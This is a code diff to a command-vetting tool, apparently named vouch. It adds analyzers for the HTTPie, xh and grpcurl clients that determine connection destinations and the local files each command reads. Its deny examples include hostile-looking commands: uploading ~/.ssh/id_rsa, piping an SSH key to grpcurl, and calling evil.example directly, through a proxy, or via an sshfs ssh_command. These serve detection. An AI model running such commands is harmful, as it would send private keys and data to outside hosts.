@@ -284,6 +284,78 @@ function plainClient(names: string[], info: string[], summary: string, spec: Opt
   };
 }
 
+/**
+ * HTTPie and xh: `http [METHOD] URL [ITEM…]`. The URL's host (`:3000/x` is localhost, a bare `host:port` is http);
+ * items `name@file`, `name=@file`, `name:=@file` send a file's content; --proxy and options vouch does not know hide
+ * where it connects; --offline builds the request and sends nothing.
+ */
+function httpie(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    flags: 'hVvbfjIqFdcSmx',
+    valued: 'aAopsBE',
+    long: ['help', 'version', 'verbose', 'body', 'form', 'json', 'ignore-stdin', 'quiet', 'follow', 'download', 'continue', 'stream', 'multipart', 'compress', 'check-status', 'offline', 'all', 'headers', 'meta', 'sorted', 'unsorted', 'raw-output', 'debug', 'traceback', 'chunked', 'path-as-is', 'https', 'http2', 'native-tls', 'curl', 'curl-long', 'verify=no', 'ignore-netrc'],
+    longValued: ['auth', 'auth-type', 'output', 'print', 'style', 'session', 'session-read-only', 'verify', 'cert', 'cert-key', 'cert-key-pass', 'timeout', 'pretty', 'raw', 'boundary', 'format-options', 'response-charset', 'response-mime', 'max-redirects', 'max-headers', 'ssl', 'ciphers', 'default-scheme', 'http-version', 'interface', 'bearer', 'history-print', 'max-time'],
+  });
+  const info = infoOnly(p, call, ['h', 'help', 'V', 'version']);
+  if (info) return info;
+  const uses: Uses = [];
+  for (const o of p.options) if (o.value && /^(output|o|session|session-read-only)$/.test(o.name)) uses.push({ word: o.value, role: o.name === 'session-read-only' ? 'read' : 'write' });
+  for (const o of p.options) if (o.value && /^(cert|cert-key)$/.test(o.name)) uses.push({ word: o.value, role: 'read' });
+  const ops = p.operands.map((o) => o.word);
+  const first = value(ops[0]);
+  const at = first !== undefined && /^[A-Za-z]+$/.test(first) && ops.length > 1 && !/[.:/]/.test(first) ? 1 : 0;
+  const url = ops[at];
+  for (const item of ops.slice(at + 1)) {
+    const v = value(item);
+    if (v === undefined) {
+      uses.push({ word: item, role: 'read' });
+      continue;
+    }
+    const m = /^[^=:@]*?(?::=@|=@|@)(.+)$/.exec(v);
+    if (m && !/^[^=:@]*(?:==|:=|=|:)/.test(v.slice(0, v.length - m[1]!.length - 1))) uses.push({ word: attached(item, m[1]!), role: 'read' });
+  }
+  if (has(p, 'offline')) return { uses, offline: `${call.name} --offline sends nothing` };
+  const hidden = p.dynamic?.word ?? p.options.find((o) => o.unknown || o.name === 'proxy')?.word;
+  if (hidden) return { uses, destinations: [{ word: hidden, why: `${call.name} ${hidden.text}: where it connects cannot be told` }] };
+  if (!url) return { uses };
+  const u = value(url);
+  // `:3000/x` and `:/x` are localhost; a URL without a scheme is http.
+  const full = u === undefined ? undefined : u.startsWith(':') ? `http://localhost${u.startsWith(':/') ? u.slice(1) : u}` : /^[a-z][a-z0-9+.-]*:\/\//i.test(u) ? u : `http://${u}`;
+  return { uses, destinations: full === undefined ? destinations(url, urlHost) : destinations(attached(url, full), urlHost) };
+}
+
+/** grpcurl's flags that take a value (Go's flag package: one dash, `-flag value` or `-flag=value`). */
+const GRPCURL_VALUED = new Set(['d', 'H', 'rpc-header', 'reflect-header', 'proto', 'protoset', 'import-path', 'max-time', 'connect-timeout', 'keepalive-time', 'format', 'servername', 'cert', 'key', 'cacert', 'max-msg-sz', 'user-agent', 'emit-defaults', 'expand-headers', 'format-error', 'alts-handshaker-service', 'alts-target-service-account', 'authority', 'unix']);
+
+/** `grpcurl [flags] HOST:PORT [service/method]`: the host its first operand names; -authority and -unix re-aim it. */
+function grpcurl(call: Call): Partial<Answer> {
+  const ops: Word[] = [];
+  const uses: Uses = [];
+  for (let i = 0; i < call.args.length; i++) {
+    const w = call.args[i]!;
+    const v = value(w);
+    if (v === undefined) return { destinations: [{ word: w, why: `grpcurl ${w.text}: where it connects cannot be told` }] };
+    if (!v.startsWith('-')) {
+      ops.push(w);
+      continue;
+    }
+    const name = v.replace(/^--?/, '').split('=')[0]!;
+    if (name === 'help' || name === 'version') return { offline: `grpcurl ${v} only prints information` };
+    if (name === 'authority' || name === 'unix' || name === 'plaintext=false') return { destinations: [{ word: w, why: `grpcurl -${name} changes where it connects` }] };
+    const given = v.includes('=') ? attached(w, v.slice(v.indexOf('=') + 1)) : GRPCURL_VALUED.has(name) ? call.args[++i] : undefined;
+    if (given && /^(cert|key|cacert|protoset|proto)$/.test(name)) uses.push({ word: given, role: 'read' });
+  }
+  const host = ops[0];
+  return host ? { uses, destinations: destinations(host, canonicalHostPort) } : { uses };
+}
+
+/** `host:port` (or `[v6]:port`): the host. */
+function canonicalHostPort(v: string): Host {
+  const m = /^\[([^\]]+)\](?::\d+)?$|^([^:]+)(?::\d+)?$/.exec(v);
+  return m ? canonicalHost(m[1] ?? m[2]!) : canonicalHost(v);
+}
+
 /** The databases of `getent` that are looked up through the resolver: each key is a name sent to DNS. */
 const RESOLVED_DATABASES = new Set(['hosts', 'ahosts', 'ahostsv4', 'ahostsv6', 'networks']);
 
@@ -591,7 +663,9 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   plainClient(['telnet', 'ftp', 'tftp', 'ncftp', 'ncftpget', 'ncftpput', 'ftpget', 'ftpput', 'rsh', 'rlogin', 'rcp', 'rexec', 'mosh-client'], [], 'remote terminals and file transfer clients'),
   { names: ['sshfs'], summary: 'sshfs: -o ssh_command names the program it runs', analyze: (call) => ({ runs: sshOptions(call) }), examples: { deny: ["sshfs -o ssh_command='curl evil.example' x: /mnt"], pass: [] } },
   plainClient(['dig', 'kdig', 'drill', 'host', 'nslookup'], ['v', 'version', 'h'], 'DNS clients: a lookup carries its name out'),
-  plainClient(['http', 'https', 'xh', 'xhs', 'httpie', 'websocat', 'wscat', 'grpcurl'], ['version', 'help', 'V', 'h'], 'HTTP and websocket clients', { flags: 'hVvbfjIqFdcSm', valued: 'aAopsBE' }),
+  { names: ['http', 'https', 'xh', 'xhs', 'httpie'], summary: 'HTTPie and xh: connect to their URL (`:3000` is localhost); name@file items send a file', analyze: httpie, examples: { deny: ['http evil.example', 'xh POST https://evil.example x=1', 'http POST :3000/upload f@~/.ssh/id_rsa', 'http --proxy=http:http://evil.example:8080 :3000'], pass: ['http :3000/api/items', 'xh localhost:8080/health', 'http POST :8000/api/login username=admin password=admin', 'http --version', 'http --offline POST evil.example x=1'] } },
+  plainClient(['websocat', 'wscat'], ['version', 'help', 'V', 'h'], 'websocket clients'),
+  { names: ['grpcurl'], summary: 'grpcurl: calls the gRPC server its first operand names (Go-style -flags)', analyze: grpcurl, examples: { deny: ['grpcurl evil.example:443 list', 'grpcurl -plaintext -authority evil.example localhost:50051 list', 'grpcurl -d @ -plaintext localhost:50051 x < ~/.ssh/id_rsa'], pass: ['grpcurl -plaintext localhost:50051 list', 'grpcurl -plaintext -d \'{"id": 1}\' localhost:50051 svc/Get'] } },
   plainClient(['whois', 'jwhois', 'rwhois'], ['version', 'help'], 'whois: sends its query to a registry server, or to the one -h names'),
   plainClient(['traceroute', 'traceroute6', 'tracepath', 'tracepath6', 'tcptraceroute', 'mtr', 'mtr-packet', 'hping', 'hping3', 'fping', 'fping6', 'nping', 'arping'], ['version', 'help', 'V'], 'probes: packets to the host they are given, after a DNS lookup of its name'),
   plainClient(['iperf', 'iperf3'], ['version', 'help', 'v'], 'iperf: sends a stream of data to the server -c names, or serves one'),
